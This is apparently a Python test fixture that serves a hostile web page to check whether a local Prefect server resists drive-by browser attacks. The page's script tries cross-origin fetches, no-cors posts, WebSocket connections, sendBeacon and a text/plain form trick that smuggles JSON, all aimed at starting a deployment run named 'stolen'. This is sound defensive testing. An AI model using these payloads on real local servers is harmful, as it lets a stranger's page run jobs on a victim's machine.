"""A page of a stranger, open in the browser of someone whose machine runs a Prefect server with a deployment."""

from __future__ import annotations

import base64
import http.client
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

# Each way is tried with the id of the deployment known; what could be read comes back.
PAGE = """<!doctype html><title>attack</title><body><script>
const api = "%(api)s", start = `${api}/deployments/%(deployment)s/create_flow_run`;
const body = JSON.stringify({name: "stolen", parameters: {settings: {dataset: "datasets/faces", oracle: "openai:m"}}});
const read = async (ask) => { try { const reply = await ask(); return reply.type === "opaque" ? null
  : `${reply.status} ${await reply.text()}`; } catch { return null; } };
const json = {"Content-Type": "application/json"};
const socket = (path, words) => new Promise((done) => {
  const open = new WebSocket(api.replace("http", "ws") + path, words);
  open.onopen = () => open.send(JSON.stringify({type: "auth", token: null}));
  open.onmessage = (event) => done(event.data);
  open.onclose = open.onerror = () => done(null);
});
async function attack() {
  const found = {
    get: await read(() => fetch(`${api}/deployments/name/discover/discover`)),
    health: await read(() => fetch(`${api}/health`)),
    settings: await read(() => fetch(`${api.replace("/api", "")}/ui-settings`)),
    filter: await read(() => fetch(`${api}/deployments/filter`, {method: "POST", headers: json, body: "{}"})),
    json: await read(() => fetch(start, {method: "POST", headers: json, body})),
    guessed: await read(() => fetch(start, {method: "POST", headers: {...json, Authorization: "Basic YTpi"}, body})),
    simple: await read(() => fetch(start, {method: "POST", mode: "no-cors", body})),
    bare: await read(() => fetch(start, {method: "POST", mode: "no-cors", body: new Blob([body])})),
    out: await socket("/events/out", ["prefect"]), in: await socket("/events/in", ["prefect"]),
    old: await socket("/events/in", []),
  };
  navigator.sendBeacon(start, body);
  for (const target of ["frame", "_self"]) {
    document.body.insertAdjacentHTML("beforeend", '<iframe name="frame"></iframe>');
    const form = document.createElement("form");
    Object.assign(form, {action: start, method: "POST", enctype: "text/plain", target});
    const field = document.createElement("input");
    [field.name, field.value] = [body.slice(0, -1) + ', "work_queue_name": "', '"}'];
    form.append(field); document.body.append(form);
    if (target === "frame") form.submit();
  }
  await new Promise((done) => setTimeout(done, 300));
  return found;
}
</script>"""

BUSY = 503


@dataclass(frozen=True)
class Target:
    """A server, as those use it who know its password."""

    url: str
    password: str

    def ask(self, method: str, path: str, content: Any = None) -> Any:
        status = BUSY
        while status == BUSY:
            status, _, text = self.send(method, path, content, {"Authorization": basic(self.password)})
        assert status < 300, text
        return json.loads(text)

    def send(
        self, method: str, path: str, content: Any = None, headers: dict[str, str] | None = None
    ) -> tuple[int, dict[str, str], str]:
        """Whatever a program may send: the Host too is among the headers."""
        parts = urlsplit(self.url)
        connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=60)
        body = json.dumps(content) if content is not None else None
        given = {"Content-Type": "application/json"} if body else {}
        connection.request(method, parts.path + path, body, given | (headers or {}))
        reply = connection.getresponse()
        text = reply.read().decode()
        connection.close()
        return reply.status, {name.lower(): value for name, value in reply.getheaders()}, text

    def deploy(self) -> str:
        """The id of a deployment that starts discoveries."""
        flow = self.ask("POST", "/flows/", {"name": "discover"})["id"]
        return str(self.ask("POST", "/deployments/", {"name": "discover", "flow_id": flow})["id"])

    def started(self) -> list[str]:
        """The runs of deployments."""
        return [run["name"] for run in self.ask("POST", "/flow_runs/filter", {}) if run["deployment_id"]]


def basic(password: str) -> str:
    return f"Basic {base64.b64encode(password.encode()).decode()}"


@contextmanager
def page_of_a_stranger(api: str, deployment: str) -> Iterator[str]:
    """Where it is served."""
    page = PAGE % {"api": api, "deployment": deployment}

    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
